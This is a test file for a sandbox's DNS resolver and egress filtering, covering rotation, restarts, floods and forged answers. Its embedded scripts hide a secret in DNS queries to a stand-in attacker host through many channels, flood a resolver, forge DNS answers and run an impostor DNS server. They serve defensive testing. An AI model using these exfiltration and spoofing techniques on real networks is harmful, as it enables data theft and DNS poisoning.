"""The resolver over time and under attack, in real containers: rotation, ways out, hostile answers,
restarts. What the lab's DNS server was asked and what reached the sinks decides."""

import json
import re
import struct

import pytest
from conftest import PATIENCE, WALLS, at_best, until
from internet import DNS_ADDRESS, address_of

# Looks the names up again and again as different programs would, and connects at once to what it
# is told; also to what it was told before, as a client does that remembers. Prints what failed.
ROTATION = r"""
import socket, sys, time
names, began, seen, failed = sys.argv[2:], time.monotonic(), {}, 0
# So long in any case, and on a slow machine until each has changed often enough, or it is too late.
def lasts(took):
    return took < float(sys.argv[1]) or took < 150 and min(map(len, seen.values()), default=0) < 10
while lasts(time.monotonic() - began):
    for name in names:
        told = {i[4][0] for i in socket.getaddrinfo(name, 8443, socket.AF_INET)}
        old = seen.setdefault(name, [])
        for address in [*told, *old[-3:]]:
            try:
                socket.create_connection((address, 8443), 30).close()
            except OSError as e:
                failed += 1
                print("failed", name, address, e)
        old += told - set(old)
    time.sleep(0.1)
print("rotations", min(map(len, seen.values())), "failed", failed)
"""


def test_ten_minutes_of_rotation(run, dns, sinks):
    """A record of sixty seconds changes ten times in ten minutes. These say one second, so they are
    renewed every few: ten changes each in less than a minute, and every address works, at once and
    for those that remember it."""
    pools = {f"moving{i}.test": [f"45.31.{i}.{j}" for j in range(1, 251)] for i in range(4)}
    for name, addresses in pools.items():
        dns.rotate(name, addresses, ttl=1)
    allow = " ".join(f"{name}:8443" for name in pools)
    done = run("python3", "-c", ROTATION, "50", *pools, allow=allow, timeout=200).ok()
    rotations, failed = map(int, re.search(r"rotations (\d+) failed (\d+)", done.out).groups())
    assert failed == 0 and rotations >= 10, done
    assert sinks.addresses() <= {a for addresses in pools.values() for a in addresses}
    assert {port for _, _, port in sinks.seen()} == {8443}


# Every way out by DNS that we know of, for a name no rule allows and one below an allowed name.
WAYS_OUT = r"""
import concurrent.futures, json, socket, ssl, struct, subprocess, sys

secret = sys.argv[1]
names = [f"{secret}.attacker.test", f"{secret}.api.openai.com"]


def wire(name, kind):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    return struct.pack("!6H", 7, 256, 1, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)


def engine_ports():
    ports = {53}
    for file in ("udp", "tcp"):
        for line in open(f"/proc/net/{file}"):
            local = line.split()[1]
            if local.startswith("0B00007F:"):
                ports.add(int(local[9:], 16))
    return ports


def run(*words):
    subprocess.run(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def ask(kind, to, message):
    try:
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(1)
        s.connect(to)
        s.send(message)
        s.recv(512)
    except OSError:
        pass


def ask_by_tls(to, name):
    try:
        raw = socket.create_connection(to, 2)
        tls = ssl._create_unverified_context().wrap_socket(raw, server_hostname=name)
        tls.send(wire(name, 16))
    except OSError:
        pass


begin = concurrent.futures.ThreadPoolExecutor(16).submit
asked = []
for name in names:
    for words in ([], ["+tcp"], ["@8.8.8.8"], ["@8.8.8.8", "+tcp"], ["@1.1.1.1", "-p", "5353"],
                  ["@2001:4860:4860::8888"], ["@127.0.0.11"], ["@127.0.0.11", "+tcp"]):
        for kind in ("A", "TXT", "NULL", "HTTPS"):
            asked.append(begin(run, "dig", "+time=1", "+tries=1", *words, kind, name))
    for address, port in [("127.0.0.11", p) for p in engine_ports()] + [("8.8.8.8", 53)]:
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            message = wire(name, 16)
            if kind == socket.SOCK_STREAM:
                message = struct.pack("!H", len(message)) + message
            asked.append(begin(ask, kind, (address, port), message))
    for port in (853, 443):  # DNS over TLS, DNS over HTTPS to an address
        asked.append(begin(ask_by_tls, ("8.8.8.8", port), name))
for one in asked:
    one.result()
print(len(engine_ports()))
"""


@pytest.mark.parametrize(
    "wall, user_defined",
    [("nft", False), ("nft", True), *((name, False) for name in WALLS if name != "nft")],
    indirect=["wall"], ids=["bridge", "user-defined", "flagless", "no capability", "plain uid"],
)  # fmt: skip
def test_no_way_out_by_dns(run, network, dns, sinks, wire, user_defined):
    name = network() if user_defined else None
    done = run("python3", "-c", WAYS_OUT, "deadbeef00", network=name, timeout=200).ok()
    if user_defined:
        assert int(done.out) > 1, "the engine's real ports are known to the test"
    assert [q.name for q in dns.asked() if "deadbeef00" in q.name] == []
    assert dns.asked("attacker.test") == []
    assert not sinks.carried(b"deadbeef00") and not wire.carried(b"deadbeef00")
    assert sinks.seen() == []


def test_the_same_ways_lead_out_without_the_wall(run, dns):
    run("python3", "-c", WAYS_OUT, "deadbeef01", init=["--egress=off"], timeout=200).ok()
    assert {q.type for q in dns.asked("attacker.test")} >= {"A", "TXT", "NULL", "HTTPS"}


# As a build does: thousands of questions to resolv.conf's server, each by a port of its own; then
# names that nobody has asked for yet.
MANY_PORTS = r"""
import socket, struct

server = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))


def ask(number, name):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(30)
        s.connect((server, 53))
        s.send(struct.pack("!6H", number, 256, 1, 0, 0, 0) + labels + struct.pack("!HH", 1, 1))
        return s.getsockname()[1], s.recv(512)[3] & 15


ports = {ask(i, "allowed.test")[0] for i in range(4000)}
print(server, len(ports), [ask(i, f"n{i}.wild.test")[1] for i in range(50)])
"""


def test_the_payloads_ports_are_none_of_ours(run, dns):
    """The kernel remembers each of the payload's questions, and that it was redirected. One of the
    resolver's to the same server, by the same port, would come back to itself."""
    for i in range(50):
        dns.add(f"n{i}.wild.test", f"45.32.0.{i + 1}")
    done = run("python3", "-c", MANY_PORTS, allow="allowed.test *.wild.test", timeout=200).ok()
    server, ports, codes = done.out.split(maxsplit=2)
    assert server != "127.0.0.11" and int(ports) > 3000
    assert json.loads(codes) == [0] * 50


def test_names_of_addresses_come_from_our_own_table(shell, dns):
    address = address_of("allowed.test")
    done = shell(
        f"dig +short -x {address}; dig +noall +comments -x 9.9.9.9;"
        f"dig +tcp @8.8.8.8 -x 9.9.9.8; getent hosts 9.9.9.7; true",
        allow="allowed.test",
    ).ok()
    assert done.lines()[0] == "allowed.test." and "NXDOMAIN" in done.out, done
    assert [q for q in dns.asked() if q.type == "PTR" or q.name.endswith("arpa")] == []


def hostile(counts=False):
    def lie(_, packet):
        """Says that there are 200 records, and has what it has."""
        return [packet[:6] + struct.pack("!H", 200) + packet[8:]]

    def aliases(_, packet):
        """64 KB of them, each to the next, by TCP: the answer by UDP is marked as cut short."""
        if packet[2] & 2:
            return [packet]
        question = packet[12 : packet.index(b"\0", 12) + 5]
        records, owner = b"", b"\xc0\x0c"
        for i in range(2400):
            target = b"\5%05d\1x\4test\0" % i
            records += owner + struct.pack("!HHIH", 5, 1, 60, len(target)) + target
            owner = target
        return [packet[:6] + struct.pack("!HHH", 2400, 0, 0) + question + records[:65000]]

    return lie if counts else aliases


@pytest.mark.parametrize("counts", [True, False], ids=["lying-counts", "64-KB-of-aliases"])
def test_a_hostile_answer_is_dropped_counted_and_reported(start, dns, sinks, counts):
    dns.forge("allowed.test", hostile(counts))
    if not counts:
        dns.truncate("allowed.test")
    box = start("bash", "-c", "curl -m 50 https://allowed.test; sleep 600", allow="allowed.test")
    box.until_says("Could not resolve host")
    assert sinks.seen() == []
    until(lambda: [e for e in dropped(box) if e.get("name") == "allowed.test" and "malformed" in e["reason"]],
          lambda: dropped(box))


def guesses(count):
    def forge(_, packet):
        wrong = struct.pack("!H", struct.unpack_from("!H", packet)[0] ^ 0x5555)
        evil = packet.replace(bytes([45]), bytes([46]))
        return [wrong + evil[2:]] * count + [packet]

    return forge


def dropped(box):
    lines = box.exec("cat", "/run/codex/events.jsonl").out.splitlines()
    return [e for e in map(json.loads, lines) if e["event"] == "dropped-answer"]


def test_guesses_at_answers_change_the_port_and_are_reported(start, dns, sinks):
    """Some wrong ids in a row, and the question goes by another port with another id, then by TCP:
    a flood gets no more guesses than that, and the name is found."""
    dns.forge("allowed.test", guesses(30), udp_only=True)
    box = start("sleep", "600", allow="allowed.test")
    told = lambda: [e for e in dropped(box) if "guessed" in e["reason"]]  # noqa: E731
    until(told, "the report")
    asked = until(lambda: len(found := [q for q in dns.asked("allowed.test") if q.type == "A"]) > 2 and found)
    assert 8 <= sum(e["count"] for e in told()) <= 60
    assert [q.tcp for q in asked] == [False, False, True]
    assert len({(q.port, q.wire[:2]) for q in asked}) == 3
    assert box.exec("curl", "-sS", "https://allowed.test/", user="1000").status == 0
    assert sinks.addresses() == {address_of("allowed.test")}


def test_a_wrong_id_or_two_change_nothing(start, dns, sinks):
    dns.forge("allowed.test", guesses(2))
    box = start("sleep", "600", allow="allowed.test")
    count = lambda: sum(e["count"] for e in dropped(box))  # noqa: E731
    until(lambda: count() == 4, lambda: dropped(box))
    assert not any("guessed" in e["reason"] for e in dropped(box))
    assert sorted(q.type for q in dns.asked("allowed.test")) == ["A", "AAAA"]
    assert box.exec("curl", "-sS", "https://allowed.test/", user="1000").status == 0
    assert sinks.addresses() == {address_of("allowed.test")}


def respelt(_, packet):
    """Right id, port and question, and somebody else's letters and address."""
    end = packet.index(b"\0", 12)
    swapped = packet[12:end].swapcase()
    return [packet[:12] + swapped + packet[end:-4] + b"\x2e\1\1\1", packet]


@pytest.mark.cell("nft", "flagless", names=True, seldom=True)
def test_letters_stay_mixed_whatever_comes_in_other_letters(run, dns, sinks):
    """The forger has guessed the id, each time; of a server that was seen to keep letters. Nothing
    goes out in small ones for that."""
    name = "abcdefghijklmnop.wild.test"
    dns.forge(name, respelt, udp_only=True)
    dns.add(name, "45.32.9.9")
    run("curl", "-sS", f"https://{name}/", allow="*.wild.test").ok()
    assert sinks.addresses() == {"45.32.9.9"}
    assert all(re.search(rb"[A-Z]", q.wire[12:28]) for q in dns.asked(name)) and dns.asked(name)


def resolver(box):
    found = box.exec(
        "bash", "-c", "grep -l codex-resolver /proc/[0-9]*/comm; true", user="1000"
    ).out.split()
    return int(found[0].split("/")[2]) if found else None


def test_restarts_are_bounded_and_nothing_opens(start, sinks, dns):
    box = start("sleep", "600", allow="allowed.test")
    until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)
    log = lambda: box.exec("cat", "/run/codex/events.jsonl").out  # noqa: E731

    def end():
        if pid := resolver(box):
            box.exec("kill", "-KILL", str(pid))
        return "resolver" in log() and "stays down" in log()

    until(end, "giving up", 3 * PATIENCE)
    assert log().count("is started again") == 8
    asked = len(dns.asked())
    sinks.mark()
    done = box.exec("curl", "-sS", "-m", "3", "https://new.attacker.test/", user="1000")
    assert done.status != 0 and sinks.seen() == []
    assert len(dns.asked()) == asked


def test_a_flood_takes_no_memory(start):
    """Everything the resolver will ever use is there when it starts."""
    box = start("sleep", "600", allow="allowed.test *.wild.test")
    until(lambda: box.exec("test", "-s", "/run/codex/status.json").status == 0)

    def size():
        text = box.exec("cat", f"/proc/{resolver(box)}/status").ok().out
        return [int(n) for n in re.findall(r"Vm(?:Size|Data|Stk):\s+(\d+)", text)]

    before = size()
    flood = r"""
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("8.8.8.8", 53))
for i in range(30000):
    name = b"\x08%08d" % i + (b"\4wild" if i % 2 else b"\3bad") + b"\4test\0"
    try:
        s.send(struct.pack("!6H", i & 65535, 256, 1, 0, 0, 0) + name + b"\0\1\0\1")
    except OSError:
        pass
keep = []
for i in range(200):
    try:
        keep.append(socket.create_connection(("8.8.8.8", 53), 2))
    except OSError:
        pass
"""
    box.exec("python3", "-c", flood, user="1000").ok()
    assert size() == before
    assert box.exec("curl", "-sS", "https://allowed.test/", user="1000").status == 0


@pytest.mark.cell("nft", "flagless")
def test_a_private_service_on_its_own_port(shell, dns, sinks, wall):
    """+private end to end, with a name that only the search list makes whole. In the cell it is the
    gate that listens on 443, for the sake of other rules, and it that refuses."""
    dns.add("db.corp.test", "10.1.2.9")
    knock = "timeout 50 bash -c 'exec 3<>/dev/tcp/'db/$p"
    done = shell(
        f"for p in 5432 5433 443; do {knock}; echo $?; done",
        allow="db:5432+private",
        options=["--dns-search", "corp.test"],
    ).ok()
    assert done.lines() == ["0", "1", "1" if wall == "nft" else "0"], done
    assert sinks.seen() == [("tcp", "10.1.2.9", 5432)]
    assert {q.name for q in dns.asked("corp.test")} == {"db.corp.test"}


@pytest.mark.cell("nft", "flagless", names=True, seldom=True)
def test_letters_are_mixed_on_the_wire(run, dns):
    """For a forger to guess; the payload's own spelling has no part in it."""
    run("true", allow="abcdefghijklmnopqrstuvwxyz.test").ok()
    wires = b"".join(q.wire[12:] for q in dns.asked())
    assert re.search(rb"[A-Z]", wires) and re.search(rb"[a-z]", wires)


TOOLS = [
    "curl -sS -o /dev/null https://{name}/",
    "git ls-remote https://{name}/x.git",
    "node -e 'fetch(\"https://{name}/\").then(() => process.exit(0), () => process.exit(1))'",
    "python3 -c 'import urllib.request as u; u.urlopen(\"https://{name}/\").read()'",
]


@pytest.mark.cell("nft", "flagless", names=True)
@pytest.mark.parametrize("tool", TOOLS, ids=["curl", "git", "node", "python"])
def test_glibc_tools_resolve_what_is_allowed_and_fail_fast_on_the_rest(shell, sinks, dns, tool):
    # git reaches its server, which has no such repository.
    shell(tool.format(name="allowed.test") + "; true", allow="allowed.test").ok()
    assert sinks.seen() and set(sinks.seen()) == {("tcp", address_of("allowed.test"), 443)}
    sinks.mark()

    def failing():
        done = shell(
            "cat >/tmp/tool <<'E'\n" + tool.format(name="x.attacker.test") + "\nE\n"
            "SECONDS=0; timeout 60 bash /tmp/tool; echo $? $SECONDS",
            allow="allowed.test",
        ).ok()
        status, seconds = map(int, done.lines()[-1].split())
        assert status not in (0, 124), done
        return seconds

    at_best(failing, 10)
    assert sinks.seen() == [] and dns.asked("attacker.test") == []


def test_a_neighbour_on_a_user_defined_network(start, shell, network):
    """The engine's own resolver is asked in mixed letters, too, and finds the name."""
    name, joined = "abcdefghijklmnop", network()
    start("sleep", "600", network=joined, options=["--network-alias", name], init=["--egress=off"])
    done = shell(f"getent ahostsv4 {name}", allow=f"{name}:8443+private", network=joined).ok()
    assert re.match(r"172\.29\.", done.out), done


# A payload that would be the DNS server of every address of the container's own.
IMPOSTOR = r"""
import socket, subprocess, threading, time

own = subprocess.run(["hostname", "-I"], capture_output=True, text=True).stdout.split()


def serve(s):
    while True:
        data, peer = s.recvfrom(512)
        end = data.index(b"\0", 12) + 5
        answer = b"\xc0\x0c\0\1\0\1\0\0\x0e\x10\0\4" + socket.inet_aton("45.66.66.66")
        s.sendto(data[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + data[12:end] + answer, peer)


for address in ["127.0.0.1", "127.0.0.53", "127.0.0.11", "::1", *own]:
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.bind((address, 53))
    except OSError:  # no IPv6, or link-local
        continue
    threading.Thread(target=serve, args=(s,), daemon=True).start()
for _ in range(3):  # longer than the boot's failures are kept
    subprocess.run(["curl", "-sSk", "-m", "8", "https://allowed.test/"])
    time.sleep(2)
"""


@pytest.mark.parametrize(
    "options, init",
    [
        (["--dns", "127.0.0.53"], []),
        (["--dns", "127.0.0.11"], []),
        (["--dns", "::1"], []),
        ([], ["--upstream", "127.0.0.1"]),
        (["--ip", "172.29.77.7"], ["--upstream", "172.29.77.7"]),
    ],
    ids=["stub", "no-engine", "ipv6", "option", "own-address"],
)
def test_a_server_inside_the_container_is_not_asked(run, network, sinks, dns, options, init):
    """The payload could listen there. It is told, with what to do."""
    joined = network("--subnet", "172.29.77.0/24") if "--ip" in options else None
    rest = {"allow": "allowed.test", "options": options, "network": joined}
    done = run("python3", "-c", IMPOSTOR, init=init, **rest)
    server = (options + init)[-1]
    assert f"use the DNS server {server}: " in done.err and "--upstream ADDR" in done.err, done
    assert sinks.seen() == [] and dns.asked() == []
    done = run("echo", "started", init=["--require-names", *init], **rest).ok(111)
    assert done.out == "" and "DNS server" in done.err
    # What the hint says works.
    rest["env"] = {"CODEX_INIT_UPSTREAM": DNS_ADDRESS}
    assert "use the DNS server" not in run("true", init=["--require-names"], **rest).ok().err


def test_a_server_inside_the_container_is_no_end_where_there_is_another(run, sinks):
    options = ["--dns", "127.0.0.53", "--dns", DNS_ADDRESS]
    done = run("curl", "-sS", "https://allowed.test/", allow="allowed.test", options=options).ok()
    assert "use the DNS server 127.0.0.53" in done.err
    assert sinks.addresses() == {address_of("allowed.test")}


def test_the_engines_own_resolver_is_asked(run, network, sinks):
    done = run("curl", "-sS", "https://allowed.test/", allow="allowed.test", network=network()).ok()
    assert "DNS server" not in done.err
    assert sinks.addresses() == {address_of("allowed.test")}
